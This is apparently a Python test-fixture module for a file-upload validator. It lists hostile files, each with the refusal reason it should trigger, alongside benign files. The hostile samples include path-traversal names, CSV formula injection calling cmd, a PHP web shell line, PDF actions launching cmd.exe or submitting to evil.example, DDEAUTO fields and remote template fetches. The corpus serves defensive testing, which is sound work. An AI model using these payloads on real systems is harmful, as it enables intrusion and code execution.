"""The corpora: hostile files with the reason each is refused for, and honest files of every kind."""

import zlib
from itertools import chain

from commitments.intake.files import Kind, Refusal
from commitments.intake.files.kinds import OLE
from tests.factories import files
from tests.factories.files import archive, docx, ods, ods_parts, pdf, picture, relation, word_parts, xlsx

PDF, DOCX, XLSX, ODS, JPG, PNG = pdf(), docx(), xlsx(), ods(), picture(), picture("PNG")
CSV = "país,año,personas\nColombia,2025,44900\n".encode()
ZIP = archive({"a.txt": "hello"})
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
R = Refusal


def _stream(body: bytes, head: bytes = b"") -> bytes:
    packed = zlib.compress(body)
    return b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (head, len(packed), packed)


_NAMES = [
    ("path up", "../report.pdf", R.NAME_PATH),
    ("path up twice, other slashes", "..\\..\\report.pdf", R.NAME_PATH),
    ("absolute path", "/etc/report.pdf", R.NAME_PATH),
    ("drive", "C:\\Users\\report.pdf", R.NAME_PATH),
    ("drive without a slash", "C:report.pdf", R.NAME_PATH),
    ("home", "~report.pdf", R.NAME_PATH),
    ("slash of another script", "..∕report.pdf", R.NAME_PATH),
    ("device CON", "CON.pdf", R.NAME_RESERVED),
    ("device nul with two endings", "nul.2026.pdf", R.NAME_RESERVED),
    ("device COM1", "Com1.pdf", R.NAME_RESERVED),
    ("device LPT9 and a space", "LPT9 .pdf", R.NAME_RESERVED),
    ("NUL in the name", "report\x00.pdf", R.NAME_HIDDEN),
    ("bell in the name", "report\x07.pdf", R.NAME_HIDDEN),
    ("direction turned around", "report\u202efdp.exe.pdf", R.NAME_HIDDEN),
    ("isolated direction", "re\u2066port\u2069.pdf", R.NAME_HIDDEN),
    ("zero width", "re\u200bport.pdf", R.NAME_HIDDEN),
    ("lone surrogate", "re\ud800port.pdf", R.NAME_HIDDEN),
    ("300 characters", "a" * 296 + ".pdf", R.NAME_LONG),
    ("5,000 characters", "a" * 5000 + ".pdf", R.NAME_LONG),
    ("no name", "", R.NAME_EMPTY),
    ("only an ending", ".pdf", R.NAME_EMPTY),
    ("only points", "....pdf", R.NAME_EMPTY),
    ("no ending", "report", R.KIND),
    ("ends in a point", "report.pdf.", R.KIND),
    ("program", "report.exe", R.KIND),
    ("program behind an ending", "report.pdf.exe", R.KIND),
    ("program before an ending", "report.exe.pdf", R.NAME_DOUBLE),
    ("page before an ending", "report.html.pdf", R.NAME_DOUBLE),
    ("script before an ending", "report.php.pdf", R.NAME_DOUBLE),
    ("ending after a colon", "report.pdf:evil.exe", R.KIND),
    ("old Word", "report.doc", R.OLD_OFFICE),
    ("old Excel", "report.XLS", R.OLD_OFFICE),
    ("Excel with macros", "report.xlsm", R.MACROS),
    ("Word with macros", "report.docm", R.MACROS),
]
_PLAIN = [
    ("SVG", "a.svg", SVG, R.KIND),
    ("page", "a.html", HTML, R.KIND),
    ("archive", "a.zip", ZIP, R.KIND),
    ("empty PDF", "a.pdf", b"", R.EMPTY),
    ("empty table", "a.csv", b"", R.EMPTY),
    ("table of nothing", "a.csv", b";;;\r\n;;\r\n", R.EMPTY),
    ("SVG as PNG", "a.png", SVG, R.MISMATCH),
    ("page as PDF", "a.pdf", HTML, R.MISMATCH),
    ("page as table", "a.csv", HTML, R.TWO_IN_ONE),
    ("SVG as table", "a.csv", SVG, R.TWO_IN_ONE),
    ("page inside a table", "a.csv", b"a,b\n1,<script>alert(1)</script>\n", R.TWO_IN_ONE),
    ("PDF as table", "a.csv", b"%PDF-1.7 text", R.MISMATCH),
    ("program as table", "a.csv", b"MZ\x90\x00\x03", R.MISMATCH),
    ("archive as table", "a.csv", ZIP, R.MISMATCH),
    ("bytes of no encoding", "a.csv", b"a,b\n\x81\x8d,1\n", R.MISMATCH),
    ("NUL in a table", "a.csv", b"a,b\n1\x00,2\n", R.MISMATCH),
    ("cell that starts a program", "a.csv", b"a,b\n1,=cmd|'/C calc'!A0\n", R.ACTIVE),
    ("cell that starts one, quoted", "a.csv", b"a;b\n1;\"+cmd|' /C calc'!A0\"\n", R.ACTIVE),
    ("virus of the trial as table", "a.csv", EICAR, R.INFECTED),
    ("virus of the trial in a PDF", "a.pdf", pdf(b"(" + EICAR + b")"), R.INFECTED),
    ("picture as PDF", "a.pdf", JPG, R.MISMATCH),
    ("PNG as JPG", "a.jpg", PNG, R.MISMATCH),
    ("GIF as PNG", "a.png", picture("GIF", mode="L"), R.MISMATCH),
    ("picture cut short", "a.jpg", JPG[: len(JPG) // 2], R.DAMAGED),
    ("PNG cut short", "a.png", PNG[:-20], R.DAMAGED),
    ("PNG of a billion pixels", "a.png", files.huge_png(40_000, 40_000), R.PICTURE_TOO_LARGE),
    ("picture and archive", "a.jpg", JPG + ZIP, R.TWO_IN_ONE),
    ("PNG and archive", "a.png", PNG + ZIP, R.TWO_IN_ONE),
    ("PNG and anything behind", "a.png", PNG + b"more", R.TWO_IN_ONE),
    ("picture and page", "a.jpg", JPG + HTML, R.TWO_IN_ONE),
    ("picture with a page in its comment", "a.jpg", picture(comment=b"<script>alert(1)</script>"), R.TWO_IN_ONE),
    ("picture and PHP", "a.jpg", JPG + b"<?php system($_GET['c']); ?>", R.TWO_IN_ONE),
    ("picture and PDF", "a.jpg", JPG + PDF, R.TWO_IN_ONE),
    ("picture and RAR", "a.png", PNG[:-12] + b"Rar!\x1a\x07\x00" + PNG[-12:], R.TWO_IN_ONE),
]
_PDFS = [
    ("something before", b"GIF89a" + PDF, R.MISMATCH),
    ("head alone", b"%PDF-1.7\n", R.DAMAGED),
    ("cut short", PDF[:-30], R.DAMAGED),
    ("and archive", PDF + ZIP, R.TWO_IN_ONE),
    ("and archive with a second end", PDF + ZIP + b"\nstartxref\n0\n%%EOF\n", R.TWO_IN_ONE),
    ("and page behind", PDF + HTML, R.TWO_IN_ONE),
    ("page between objects", pdf(b"(<html><script>alert(1)</script>)"), R.TWO_IN_ONE),
    ("script", pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), R.ACTIVE),
    ("script spelled in numbers", pdf(b"<< /S /Java#53cript /JS (1) >>"), R.ACTIVE),
    ("script in packed objects", pdf(packed=b"4 0 << /S /JavaScript /JS (1) >>"), R.ACTIVE),
    (
        "script in objects packed unseen",
        pdf(b"<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nxx\nendstream"),
        R.DAMAGED,
    ),
    ("start of a program", pdf(b"<< /S /Launch /F (cmd.exe) >>"), R.ACTIVE),
    ("form that sends", pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), R.ACTIVE),
    ("film", pdf(b"<< /Subtype /RichMedia >>"), R.ACTIVE),
    ("form with its own language", pdf(b"<< /XFA 5 0 R >>"), R.ACTIVE),
    ("file inside", pdf(b"<< /Type /EmbeddedFile >>"), R.NESTED),
    ("file hung on", pdf(b"<< /Subtype /FileAttachment >>"), R.NESTED),
    ("bomb of objects", pdf(packed=b"4 0 " + bytes(60 * 1024 * 1024)), R.UNPACKS_TOO_BIG),
    ("locked", pdf(trailer=b"/Encrypt 9 0 R"), R.LOCKED),
]


def _with(name: str, part: bytes | str = b"macro") -> bytes:
    """A Word document with one more part, or another content of one."""
    return archive(word_parts() | {name: part})


def _fetching(kind: str, target: str) -> bytes:
    return _with("word/_rels/settings.xml.rels", relation(kind, target))


_LOCKED_ODS = archive(ods_parts() | {"META-INF/manifest.xml": "<manifest:encryption-data/>"}, plain_first=True)
_MACRO_TYPES = f"<Types>{MACRO_TYPE}</Types>".encode("utf-16")
_NESTED_TWICE = archive(files.archive_parts(XLSX) | {"xl/embeddings/b.xlsx": XLSX})
_LINKED = archive(files.archive_parts(XLSX) | {"xl/externalLinks/externalLink1.xml": "<ddeLink/>"})


_OFFICE = [
    ("plain archive as Word", "a.docx", ZIP, R.MISMATCH),
    ("Word as Excel", "a.xlsx", DOCX, R.MISMATCH),
    ("Excel as sheet of OpenDocument", "a.ods", XLSX, R.MISMATCH),
    ("OpenDocument as Word", "a.docx", ODS, R.MISMATCH),
    ("text as Word", "a.docx", CSV, R.DAMAGED),
    ("PDF as Word", "a.docx", PDF, R.DAMAGED),
    ("old format under the new name", "a.docx", files.wrapped(), R.OLD_OFFICE),
    ("locked Word", "a.docx", files.wrapped(lock=True), R.LOCKED),
    ("locked sheet", "a.ods", _LOCKED_ODS, R.LOCKED),
    ("macros", "a.docx", _with("word/vbaProject.bin"), R.MACROS),
    ("macros in capitals", "a.docx", _with("word/VBAPROJECT.BIN"), R.MACROS),
    ("macros of long ago", "a.xlsx", archive(word_parts() | {"xl/macrosheets/sheet1.xml": "<x/>"}), R.MACROS),
    ("controls with programs", "a.docx", _with("word/activeX/activeX1.bin"), R.MACROS),
    ("type of macros", "a.docx", archive(word_parts(main=MACRO_TYPE)), R.MACROS),
    ("type of macros in another encoding", "a.docx", _with("[Content_Types].xml", _MACRO_TYPES), R.MACROS),
    ("script in OpenDocument", "a.ods", ods(Basic__Standard__Module1_DOT_xml="<x/>"), R.MACROS),
    ("Python in OpenDocument", "a.ods", ods(Scripts__python__evil_DOT_py="import os"), R.MACROS),
    ("listener in OpenDocument", "a.ods", ods("<script:event-listener/>"), R.ACTIVE),
    ("template from elsewhere", "a.docx", _fetching("attachedTemplate", "https://evil.example/t.dotm"), R.ACTIVE),
    ("template from a share", "a.docx", _fetching("attachedTemplate", r"\\10.0.0.1\s\t.dotm"), R.ACTIVE),
    ("object from elsewhere", "a.docx", _fetching("oleObject", "http://evil.example/o"), R.ACTIVE),
    ("entities that multiply", "a.docx", _with("word/b.xml", '<!DOCTYPE l [<!ENTITY a "ha">]><l/>'), R.ACTIVE),
    ("field that starts a program", "a.docx", docx('DDEAUTO "cmd.exe" "/k calc"'), R.ACTIVE),
    ("link of data to a program", "a.xlsx", _LINKED, R.ACTIVE),
    ("archive inside", "a.docx", docx(word__more_DOT_zip=ZIP), R.NESTED),
    ("archive inside under another name", "a.docx", docx(word__media__image1_DOT_png=ZIP), R.NESTED),
    ("Word inside", "a.docx", docx(word__embeddings__a_DOT_docx=DOCX), R.NESTED),
    ("object inside", "a.docx", docx(word__embeddings__oleObject1_DOT_bin=OLE + b"x" * 600), R.NESTED),
    ("table in a table in a text", "a.docx", _with("word/embeddings/a.xlsx", _NESTED_TWICE), R.NESTED),
    ("bomb", "a.docx", docx(word__big_DOT_xml=bytes(60 * 1024 * 1024)), R.UNPACKS_TOO_BIG),
    ("packed too well", "a.xlsx", archive({**word_parts(), "xl/big.xml": bytes(20 * 1024 * 1024)}), R.UNPACKS_TOO_BIG),
    ("too many parts", "a.docx", archive(word_parts() | {f"word/p{n}.xml": "" for n in range(1001)}), R.TOO_MANY_PARTS),
    ("part with a path up", "a.docx", archive(word_parts() | {"../evil.xml": "x"}), R.DAMAGED),
    ("part with an absolute path", "a.docx", archive(word_parts() | {"/etc/evil.xml": "x"}), R.DAMAGED),
    ("page before the archive", "a.docx", HTML + DOCX, R.TWO_IN_ONE),
    ("page behind the archive", "a.docx", DOCX + HTML, R.TWO_IN_ONE),
    ("picture before the archive", "a.xlsx", JPG + XLSX, R.TWO_IN_ONE),
    ("PDF before the archive", "a.docx", PDF + DOCX, R.TWO_IN_ONE),
    ("archive cut short", "a.docx", DOCX[:-40], R.DAMAGED),
    ("parts twice", "a.docx", archive(word_parts() | {"WORD/document.xml": "<x/>"}), R.TWO_IN_ONE),
]  # fmt: skip
HOSTILE: list[tuple[str, str, bytes, Refusal]] = [
    *((about, name, PDF, reason) for about, name, reason in _NAMES),
    *_PLAIN,
    *((f"PDF: {about}", "a.pdf", content, reason) for about, content, reason in _PDFS),
    *((f"office: {about}", name, content, reason) for about, name, content, reason in _OFFICE),
]

_HONEST_NAMES = [
    "report", "Informe anual", "Relatório de março", "Rapport d’août", "v2.1 final", "2026-11-24", "ЗАЯВКА", "報告",
    "a (1)", "Ñandú & Cía", "informe.2026", "R+D #3", "l'été", "100%", "CONSULAR", "a_b-c", "O'Higgins, nota 3",
]  # fmt: skip
_WORDS = ["Hello", "Año", "Ação", "Été", "x" * 5000, "DDE", "<", "JavaScript", "a &amp; b"]
_TABLES = [
    CSV, CSV.decode().encode("cp1252"), b"\xef\xbb\xbf" + CSV, CSV.decode().encode("utf-16"), b"a;b\r\n1;2\r\n",
    b"a\tb\n-5\t+3\n", b"a,b\n=SUM(A1:A3),2\n", b"one column\n1\n2\n", b"a,b\n" + b"1,2\n" * 50_000, b'"a, b","c"\n',
    "año;niñas\n2025;1 234\n".encode("cp1252"), b"a|b\n1|2\n", b"a,b\n1,x < y\n", b"MZ-1,2\n"[2:],
    b"email\na@example.org\n", b"a,b\n-1|2,3\n",
]  # fmt: skip


def _pdfs() -> list[bytes]:
    text = _stream(b"BT (JavaScript is a language) Tj ET")
    link = b"<< /S /URI /URI (https://example.org) >>"
    return [
        pdf(), pdf(version=b"1.4"), pdf(version=b"2.0"), pdf(text), pdf(link), pdf(packed=b"4 0 << /Type /Font >>"),
        pdf(b"<< /OpenAction [3 0 R /Fit] >>"), pdf(b"(Launcher /Launcher)"), pdf(_stream(bytes(3_000_000))),
        PDF + b"\n", pdf(b"<< /Producer (Office 365) >>"), pdf(text, link), PDF.rstrip() + b"\r\n",
        pdf(b"<< /Type /Font /BaseFont /Helvetica >>"), pdf(b"<< /AcroForm << /Fields [] >> >>"), PDF + b"\0" * 16,
        pdf(_stream(b"<html> inside a stream is text")),
    ]  # fmt: skip


def _docx(place: int) -> bytes:
    more = {
        1: {
            "word___rels__settings_DOT_xml_DOT_rels": relation(
                "attachedTemplate", "file:" + "///C:/Templates/Normal.dotm"
            )
        },
        2: {"word___rels__document_DOT_xml_DOT_rels": relation("hyperlink", "https://example.org")},
        3: {"word__media__image1_DOT_jpeg": JPG},
    }
    return docx(_WORDS[place % len(_WORDS)].replace("<", "&lt;"), **more.get(place, {}))


def _pictures(kind: str) -> list[bytes]:
    modes = ["RGB", "L", "CMYK"] if kind == "JPEG" else ["RGB", "L", "RGBA", "P", "1"]
    sizes = [(1, 1), (32, 24), (640, 480), (24, 32), (3, 500)]
    plain = [picture(kind, size, mode) for size in sizes for mode in modes]
    return [*plain, *(picture(kind, exif=files.exif(turn)) for turn in (1, 3, 6, 8))]


def _named(kind: Kind, contents: list[bytes], endings: tuple[str, ...]) -> list[tuple[Kind, str, bytes]]:
    return [
        (kind, f"{_HONEST_NAMES[place % len(_HONEST_NAMES)]} {place}.{endings[place % len(endings)]}", content)
        for place, content in enumerate(contents)
    ]


HONEST: list[tuple[Kind, str, bytes]] = list(
    chain(
        _named(Kind.PDF, _pdfs(), ("pdf", "PDF")),
        _named(Kind.WORD, [_docx(place) for place in range(16)], ("docx",)),
        _named(Kind.EXCEL, [xlsx(1 + 50 * n, chart=n % 2 == 1) for n in range(16)], ("xlsx", "XLSX")),
        _named(Kind.ODS, [ods(f"<text>{n}</text>", Thumbnails__a_DOT_png=PNG * (n % 2)) for n in range(16)], ("ods",)),
        _named(Kind.CSV, _TABLES, ("csv",)),
        _named(Kind.JPEG, _pictures("JPEG"), ("jpg", "jpeg", "JPG")),
        _named(Kind.PNG, _pictures("PNG"), ("png",)),
    )
)
